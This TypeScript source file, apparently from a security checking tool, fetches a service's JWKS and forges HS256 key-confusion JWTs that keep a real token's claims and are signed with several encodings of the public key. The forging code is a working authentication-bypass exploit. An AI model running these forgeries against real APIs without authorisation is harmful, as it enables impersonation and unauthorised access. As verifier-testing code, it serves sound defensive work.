import { createPublicKey, type JsonWebKey, type KeyObject } from "node:crypto";
import { CompactSign, decodeProtectedHeader } from "jose";
import { describeError } from "../errors.ts";

/**
 * The HS256 key-confusion attack: a verifier that takes the algorithm from the token and was handed
 * the issuer's public key verifies an HMAC with that key's bytes as the secret, which anyone can
 * compute. Each forgery keeps the real token's claims and kid, says alg HS256 and is signed with one
 * form of a public key from the API's JWKS that such a verifier might hold: the PEM text (as loaded
 * from a file, with and without its final newline; SPKI and PKCS#1), the DER bytes and the JWK as
 * published. Any of them accepted means the verifier can be fooled without the private key.
 */
export interface ForgedToken {
  /** Which form of which key signed it, for the check's detail. */
  form: string;
  token: string;
}

export type JwksAnswer = { keys: JsonWebKey[] } | { error: string };

const JWKS_TIMEOUT_MS = 15_000;
/** Keys tried when none matches the token's kid; a JWKS rarely publishes more at a time. */
const MAX_KEYS = 3;

export async function readJwks(uri: string, signal?: AbortSignal): Promise<JwksAnswer> {
  try {
    const response = await fetch(uri, {
      headers: { accept: "application/json" },
      redirect: "follow",
      signal: signal
        ? AbortSignal.any([signal, AbortSignal.timeout(JWKS_TIMEOUT_MS)])
        : AbortSignal.timeout(JWKS_TIMEOUT_MS),
    });
    if (!response.ok) return { error: `the JWKS at ${new URL(uri).origin} answered ${response.status}` };
    const body = (await response.json()) as { keys?: unknown };
    if (!Array.isArray(body.keys)) return { error: "the JWKS has no keys list" };
    return { keys: body.keys.filter((key): key is JsonWebKey => typeof key === "object" && key !== null) };
  } catch (error) {
    const cause = (error as { cause?: { code?: unknown } }).cause;
    return {
      error: `the JWKS could not be read (${typeof cause?.code === "string" ? cause.code : describeError(error)})`,
    };
  }
}

/** The forgeries for `token` from the JWKS's key with the token's kid (else its first few public keys). */
export async function keyConfusionTokens(token: string, keys: readonly JsonWebKey[]): Promise<ForgedToken[]> {
  const payload = token.split(".")[1] ?? "";
  const kid = kidOf(token);
  const usable = keys.filter((key) => (key.kty === "RSA" || key.kty === "EC") && typeof key.d !== "string");
  const matching = usable.filter((key) => kid !== undefined && key.kid === kid);
  const chosen = matching.length > 0 ? matching : usable.slice(0, MAX_KEYS);
  const claims = Buffer.from(payload, "base64url");
  const forged: ForgedToken[] = [];
  for (const jwk of chosen) {
    const label = typeof jwk.kid === "string" ? `key ${jwk.kid}` : `${jwk.kty} key`;
    for (const { form, secret } of secretForms(jwk)) {
      const signed = await new CompactSign(claims)
        .setProtectedHeader({ alg: "HS256", typ: "JWT", ...(kid === undefined ? {} : { kid }) })
        .sign(secret);
      forged.push({ form: `${form} of ${label}`, token: signed });
    }
  }
  return forged;
}

function secretForms(jwk: JsonWebKey): { form: string; secret: Uint8Array }[] {
  let key: KeyObject;
  try {
    key = createPublicKey({ key: jwk, format: "jwk" });
  } catch {
    return [];
  }
  const bytes = (value: string | Buffer) =>
    new Uint8Array(typeof value === "string" ? Buffer.from(value) : value);
  const spkiPem = String(key.export({ type: "spki", format: "pem" }));
  const forms = [
    { form: "SPKI PEM text", secret: bytes(spkiPem) },
    { form: "SPKI PEM text without its final newline", secret: bytes(spkiPem.trimEnd()) },
    { form: "SPKI DER bytes", secret: bytes(key.export({ type: "spki", format: "der" })) },
    { form: "JWK JSON as published", secret: bytes(JSON.stringify(jwk)) },
  ];
  if (jwk.kty === "RSA") {
    forms.push(
      { form: "PKCS#1 PEM text", secret: bytes(String(key.export({ type: "pkcs1", format: "pem" }))) },
      { form: "PKCS#1 DER bytes", secret: bytes(key.export({ type: "pkcs1", format: "der" })) },
    );
  }
  return forms;
}

function kidOf(token: string): string | undefined {
  try {
    const { kid } = decodeProtectedHeader(token);
    return typeof kid === "string" ? kid : undefined;
  } catch {
    return undefined;
  }
}
